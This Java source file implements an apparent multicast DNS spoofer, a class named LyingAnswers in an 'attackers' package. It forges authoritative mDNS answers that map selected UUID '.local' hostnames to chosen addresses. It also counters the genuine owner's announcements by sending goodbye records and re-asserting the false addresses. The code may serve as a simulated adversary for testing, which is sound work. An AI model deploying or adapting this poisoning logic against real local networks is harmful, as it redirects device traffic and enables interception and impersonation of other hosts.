package dev.lanward.attackers;

import java.net.Inet4Address;
import java.net.InetAddress;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.ConcurrentHashMap;
import java.util.function.Predicate;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.xbill.DNS.Flags;
import org.xbill.DNS.Message;
import org.xbill.DNS.Name;
import org.xbill.DNS.Record;
import org.xbill.DNS.Section;
import org.xbill.DNS.Type;

/** What a liar says when it hears multicast DNS. Holds no socket. Any thread. */
final class LyingAnswers {
  private static final Pattern HOST =
      Pattern.compile("([0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12})\\.local\\.");

  /** Class IN with the cache-flush bit (RFC 6762 section 10.2). */
  private static final int FLUSH_IN = 0x8001;

  private static final int TTL_SECONDS = 120;
  private static final int MAX_NAMES = 1_000;

  private final List<InetAddress> lies;
  private final Predicate<UUID> about;
  private final Set<UUID> told = ConcurrentHashMap.newKeySet();

  /**
   * A liar.
   *
   * @param lies the addresses that every name shall have
   * @param about which names
   */
  LyingAnswers(List<InetAddress> lies, Predicate<UUID> about) {
    this.lies = List.copyOf(lies);
    this.about = about;
  }

  /** The names that {@code query} asks for and that are lied about. */
  List<Name> wanted(Message query) {
    List<Name> names = new ArrayList<>();
    for (Record question : query.getSection(Section.QUESTION)) {
      int type = question.getType();
      boolean forAddress = type == Type.A || type == Type.AAAA || type == Type.ANY;
      if (forAddress && hostOf(question.getName()).filter(about).isPresent()) {
        names.add(question.getName());
      }
    }
    return names;
  }

  /** Remembers that {@code name} is lied about; whether that is new. */
  boolean isNew(Name name) {
    return told.size() < MAX_NAMES && hostOf(name).filter(told::add).isPresent();
  }

  /** The lie about {@code name}. */
  Message lie(Name name) {
    Message message = response();
    addLies(message, name);
    return message;
  }

  /**
   * A goodbye for what the owner of a name has just said of it (RFC 6762 section 10.1), and the lie
   * again; empty when {@code truth} is about other names.
   */
  Optional<Message> rebuttal(Message truth) {
    Message message = response();
    for (Record record : truth.getSection(Section.ANSWER)) {
      boolean isAddress = record.getType() == Type.A || record.getType() == Type.AAAA;
      boolean isOurs = hostOf(record.getName()).filter(told::contains).isPresent();
      if (isAddress && isOurs && record.getTTL() > 0) {
        add(message, record.getName(), record.getType(), 0, record.rdataToWireCanonical());
        addLies(message, record.getName());
      }
    }
    boolean isEmpty = message.getHeader().getCount(Section.ANSWER) == 0;
    return isEmpty ? Optional.empty() : Optional.of(message);
  }

  private void addLies(Message message, Name name) {
    for (InetAddress lie : lies) {
      int type = lie instanceof Inet4Address ? Type.A : Type.AAAA;
      add(message, name, type, TTL_SECONDS, lie.getAddress());
    }
  }

  private static Message response() {
    Message message = new Message(0);
    message.getHeader().setFlag(Flags.QR);
    message.getHeader().setFlag(Flags.AA);
    return message;
  }

  private static void add(Message message, Name name, int type, int ttl, byte[] data) {
    message.addRecord(Record.newRecord(name, type, FLUSH_IN, ttl, data), Section.ANSWER);
  }

  private static Optional<UUID> hostOf(Name name) {
    Matcher match = HOST.matcher(name.toString().toLowerCase(Locale.ROOT));
    return match.matches() ? Optional.of(UUID.fromString(match.group(1))) : Optional.empty();
  }
}
